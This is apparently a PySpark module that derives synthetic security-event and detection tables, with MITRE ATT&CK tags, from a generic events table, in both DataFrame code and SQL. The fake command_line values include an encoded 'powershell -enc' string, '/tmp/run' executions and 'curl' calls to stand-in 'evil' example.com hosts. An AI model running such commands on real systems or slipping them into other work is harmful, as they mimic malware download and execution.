"""Security tables as views over the given tables, and the same views in SQL.

Every view is a pure function of the table it reads, written twice: as
DataFrame columns, and as a common table expression for the comparison.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from ..functions.severity import severity_from_score


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def epoch(ts: Column) -> Column:
    """Seconds since the epoch of a timestamp without a zone, read as UTC."""
    return F.unix_micros(F.to_utc_timestamp(ts.cast("timestamp"), F.current_timezone())) / F.lit(1e6)


#: Fixed values of the views.
TYPES = {"click": "process", "view": "network", "purchase": "file", "signup": "auth", "error": "syscall"}
DETECTORS = {"process": "rule", "network": "statistical", "file": "ioc", "auth": "isolation_forest", "syscall": "autoencoder"}
TAGS = {
    "process": ["execution", "mitre:T1059"],
    "network": ["c2", "mitre:T1071"],
    "file": ["impact", "mitre:T1486"],
    "auth": ["credential-access", "mitre:T1078"],
    "syscall": ["mitre:T1055"],
}

SEC_SQL = """sec AS (
  SELECT event_id, epoch(ts) AS ts, CAST(ts AS TIMESTAMP) AS event_time,
    CASE event_type WHEN 'click' THEN 'process' WHEN 'view' THEN 'network' WHEN 'purchase' THEN 'file' WHEN 'signup' THEN 'auth' ELSE 'syscall' END AS event_type,
    'h' || (user_id % 20) AS host, CAST(user_id AS VARCHAR) AS "user",
    CASE WHEN k % 10 = 3 THEN 'bash' ELSE 'p' || (k % 10) END AS process,
    CAST(event_id % 500 AS INT) AS pid, CAST(event_id % 50 AS INT) AS parent_pid, k AS dst_port,
    CAST(floor(value * 1000) AS BIGINT) AS bytes_sent,
    '10.0.' || (user_id % 7) || '.' || k AS dst_ip,
    '/data/f' || k || CASE WHEN k % 10 = 0 THEN '.locked' ELSE '.txt' END AS file_path,
    CASE WHEN k % 25 = 0 THEN 'powershell -enc ' || repeat('QUJD', 12) WHEN k % 25 = 1 THEN '/tmp/run' || k
      WHEN k % 25 = 2 THEN 'curl http://evil' || k || '.example.com/x' ELSE 'ls -l /home/' || user_id END AS command_line,
    CASE WHEN value > 50 THEN 'write' ELSE 'read' END AS action,
    CASE WHEN k % 5 = 0 THEN 'failed login for root' WHEN k % 5 = 1 THEN NULL ELSE 'session opened' END AS message,
    CASE WHEN k % 5 = 0 THEN 'failure' ELSE 'success' END AS status, 'tcp' AS protocol, value
  FROM (SELECT *, CAST(regexp_extract(props, '([0-9]+)', 1) AS INT) AS k FROM events))"""

DET_SQL = (
    SEC_SQL
    + """, det AS (
  SELECT event_id, ts, event_time, event_type,
    CASE event_type WHEN 'process' THEN 'rule' WHEN 'network' THEN 'statistical' WHEN 'file' THEN 'ioc' WHEN 'auth' THEN 'isolation_forest' ELSE 'autoencoder' END AS detector,
    least(1.0, value / 120) AS score, host, "user", process, dst_ip, dst_port, protocol, file_path, action, status,
    CASE WHEN value / 120 >= 0.9 THEN 'critical' WHEN value / 120 >= 0.75 THEN 'high' WHEN value / 120 >= 0.5 THEN 'medium' ELSE 'low' END AS severity,
    CASE event_type WHEN 'process' THEN ['execution', 'mitre:T1059'] WHEN 'network' THEN ['c2', 'mitre:T1071'] WHEN 'file' THEN ['impact', 'mitre:T1486']
      WHEN 'auth' THEN ['credential-access', 'mitre:T1078'] ELSE ['mitre:T1055'] END AS tags
  FROM sec)"""
)


def _choose(col: str, values: dict, other: Column) -> Column:
    out = other
    for k, v in values.items():
        out = F.when(F.col(col) == k, F.array(*map(F.lit, v)) if isinstance(v, list) else F.lit(v)).otherwise(out)
    return out


def security_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The event schema over ``events``: one row for each event."""
    k = F.regexp_extract("props", "([0-9]+)", 1).cast("int")
    rows = table(spark, sf_dir, "events").withColumn("k", k).withColumnRenamed("event_type", "kind")
    return rows.select(
        "event_id",
        epoch(F.col("ts")).alias("ts"),
        F.col("ts").alias("event_time"),
        _choose("kind", TYPES, F.lit("syscall")).alias("event_type"),
        F.concat(F.lit("h"), (F.col("user_id") % 20).cast("string")).alias("host"),
        F.col("user_id").cast("string").alias("user"),
        F.when(F.col("k") % 10 == 3, F.lit("bash")).otherwise(F.concat(F.lit("p"), (F.col("k") % 10).cast("string"))).alias("process"),
        (F.col("event_id") % 500).cast("int").alias("pid"),
        (F.col("event_id") % 50).cast("int").alias("parent_pid"),
        F.col("k").alias("dst_port"),
        F.floor(F.col("value") * 1000).cast("long").alias("bytes_sent"),
        F.concat(F.lit("10.0."), (F.col("user_id") % 7).cast("string"), F.lit("."), F.col("k").cast("string")).alias("dst_ip"),
        F.concat(F.lit("/data/f"), F.col("k").cast("string"), F.when(F.col("k") % 10 == 0, ".locked").otherwise(".txt")).alias("file_path"),
        F.when(F.col("k") % 25 == 0, F.concat(F.lit("powershell -enc "), F.repeat(F.lit("QUJD"), 12)))
        .when(F.col("k") % 25 == 1, F.concat(F.lit("/tmp/run"), F.col("k").cast("string")))
        .when(F.col("k") % 25 == 2, F.concat(F.lit("curl http://evil"), F.col("k").cast("string"), F.lit(".example.com/x")))
        .otherwise(F.concat(F.lit("ls -l /home/"), F.col("user_id").cast("string")))
        .alias("command_line"),
        F.when(F.col("value") > 50, "write").otherwise("read").alias("action"),
        F.when(F.col("k") % 5 == 0, "failed login for root").when(F.col("k") % 5 == 1, F.lit(None)).otherwise("session opened").alias("message"),
        F.when(F.col("k") % 5 == 0, "failure").otherwise("success").alias("status"),
        F.lit("tcp").alias("protocol"),
        "value",
    )


def detections(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The detection schema over ``security_events``: one detection for each event."""
    score = F.least(F.lit(1.0), F.col("value") / 120)
    return security_events(spark, sf_dir).select(
        "event_id", "ts", "event_time", "event_type",
        _choose("event_type", DETECTORS, F.lit("autoencoder")).alias("detector"),
        score.alias("score"), "host", "user", "process", "dst_ip", "dst_port", "protocol", "file_path", "action", "status",
        severity_from_score(score).alias("severity"),
        _choose("event_type", TAGS, F.array(F.lit("mitre:T1055"))).alias("tags"),
    )
